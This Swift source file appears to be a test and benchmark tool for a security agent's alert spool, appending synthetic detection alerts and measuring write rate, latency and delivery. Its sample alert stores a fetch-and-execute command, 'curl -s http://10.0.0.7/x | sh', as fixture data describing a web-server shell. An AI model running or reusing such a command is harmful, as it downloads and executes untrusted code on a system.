// Uses a spool as the agent does, for tests that kill it and for measurements:
//
//   SpoolTrials append FILE   appends alerts for ever, of which each has its number in this run as its message, and says the
//                             sequence of the first, and up to which sequence all are on disk.
//   SpoolTrials deliver FILE LAST RATE RELP TLS FOLDER
//                             appends alerts, RATE a second, until LAST are in the file, and delivers them to the ports RELP
//                             and TLS of 127.0.0.1, with the certificates of FOLDER; says how the sinks are doing each
//                             second; ends when they have all.
//   SpoolTrials rate FILE COUNT     how long it takes to get so many alerts onto disk.
//   SpoolTrials latency FILE COUNT  how long each takes when it comes alone.
//   SpoolTrials insert FILE COUNT GROUP
//                             what SQLite alone needs for the same bytes, so many rows a transaction, into a table without an
//                             index.
import Delivery
import Engine
import Glibc
import Rules

func sample(_ number: UInt64, priority: Priority = .warning, tenant: String? = "m1234", rule: String = "Shell by a web server") -> Alert {
  Alert(
    id: "4f2f6dc8d9d14d0bb1a7f3a1c7d1a9c0-\(number)-9f3c2a1b77e5d012", recordNumber: number,
    timestampNanoseconds: 1_795_508_100_123_456_789 &+ Int64(number), node: "node-1", rule: rule,
    ruleDescription: "A shell that a web server started", priority: priority, tags: ["network", "T1059"], tenant: tenant,
    event: "execve", message: "\(number)",
    fields: [
      AlertField(name: "proc.name", value: .text("bash")), AlertField(name: "proc.pid", value: .integer(Int64(number))),
      AlertField(name: "proc.cmdline", value: .text("bash -c 'curl -s http://10.0.0.7/x | sh' " + String(repeating: "x", count: 200))),
      AlertField(name: "proc.exepath", value: .text("/usr/bin/bash")), AlertField(name: "proc.cwd", value: .text("/var/www")),
      AlertField(name: "user.uid", value: .integer(33)),
    ])
}

func say(_ text: String) {
  let bytes = Array(text.utf8)
  _ = write(1, bytes, bytes.count)
}

let numbers = CommandLine.arguments.dropFirst(3).compactMap { UInt64($0) }.filter { $0 > 0 }
do {
  switch CommandLine.arguments.dropFirst().first {
  case "append":
    let spool = try Spool(SpoolSettings(path: CommandLine.arguments[2]))
    say("\(spool.status().lastSequence + 1)\n")
    var said = spool.status().committedSequence
    for number in UInt64(1)... {
      spool.append(sample(number))
      let committed = spool.status().committedSequence
      if committed != said { say("\(committed)\n") }
      said = committed
      // So that the disk keeps up.
      while spool.status().waiting > 200 { usleep(100) }
    }
  case "deliver" where CommandLine.arguments.count == 8:
    try deliver(Array(CommandLine.arguments[2...]))
  case "rate" where numbers.count == 1: rate(try Spool(SpoolSettings(path: CommandLine.arguments[2])), numbers[0])
  case "latency" where numbers.count == 1: latency(try Spool(SpoolSettings(path: CommandLine.arguments[2])), numbers[0])
  case "insert" where numbers.count == 2: insert(CommandLine.arguments[2], numbers[0], numbers[1])
  default:
    say("usage: SpoolTrials append FILE | deliver FILE LAST RATE RELP TLS FOLDER | rate FILE COUNT | ...\n")
    exit(2)
  }
} catch {
  say("\(error)\n")
  exit(1)
}
